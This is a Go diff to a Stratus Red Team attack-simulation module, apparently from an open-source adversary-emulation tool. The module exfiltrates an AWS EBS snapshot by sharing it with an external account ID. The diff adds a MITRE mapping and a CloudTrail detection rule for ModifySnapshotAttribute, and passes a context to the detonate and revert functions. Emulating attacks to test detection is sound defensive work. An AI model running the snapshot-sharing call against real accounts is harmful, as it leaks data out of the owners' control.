@@ -16,11 +16,18 @@ var tf []byte
 
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "aws.exfiltration.ec2-share-ebs-snapshot",
-		FriendlyName:       "Exfiltrate EBS Snapshot by Sharing It",
-		Platform:           stratus.AWS,
-		IsIdempotent:       true,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Exfiltration},
+		ID:                    "aws.exfiltration.ec2-share-ebs-snapshot",
+		FriendlyName:          "Exfiltrate EBS Snapshot by Sharing It",
+		Platform:              stratus.AWS,
+		IsIdempotent:          true,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Exfiltration},
+		MitreAttackTechniques: []string{"T1537"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"ec2.amazonaws.com"}, "eventName": {"ModifySnapshotAttribute"}, "requestParameters.attributeType": {"CREATE_VOLUME_PERMISSION"}},
+			},
+			FalsePositives: []string{"EBS snapshots shared with known accounts of the organization"},
+		},
 		FrameworkMappings: []stratus.FrameworkMappings{
 			{
 				Framework: stratus.ThreatTechniqueCatalogAWS,
@@ -90,14 +97,14 @@ In that case, <code>userIdentity.accountId</code> contains the attacker's accoun
  Note that detonating this attack technique with Stratus Red Team does *not* simulate an attacker accessing the snapshot from their account (only sharing it publicly from your account).
 `,
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
 var ShareWithAccountId = "012345678912"
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
 
 	// Find the snapshot to exfiltrate
@@ -106,7 +113,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	// Exfiltrate it
 	log.Println("Sharing the volume snapshot " + ourSnapshotId + " with an external AWS account...")
 
-	_, err := ec2Client.ModifySnapshotAttribute(context.Background(), &ec2.ModifySnapshotAttributeInput{
+	_, err := ec2Client.ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{
 		SnapshotId: &ourSnapshotId,
 		Attribute:  types.SnapshotAttributeNameCreateVolumePermission,
 		CreateVolumePermission: &types.CreateVolumePermissionModifications{
@@ -124,12 +131,12 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return err
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	ec2Client := ec2.NewFromConfig(providers.AWS().GetConnection())
 	ourSnapshotId := params["snapshot_id"]
 
 	log.Println("Unsharing the volume snapshot " + ourSnapshotId)
-	_, err := ec2Client.ModifySnapshotAttribute(context.Background(), &ec2.ModifySnapshotAttributeInput{
+	_, err := ec2Client.ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{
 		SnapshotId: &ourSnapshotId,
 		Attribute:  types.SnapshotAttributeNameCreateVolumePermission,
 		CreateVolumePermission: &types.CreateVolumePermissionModifications{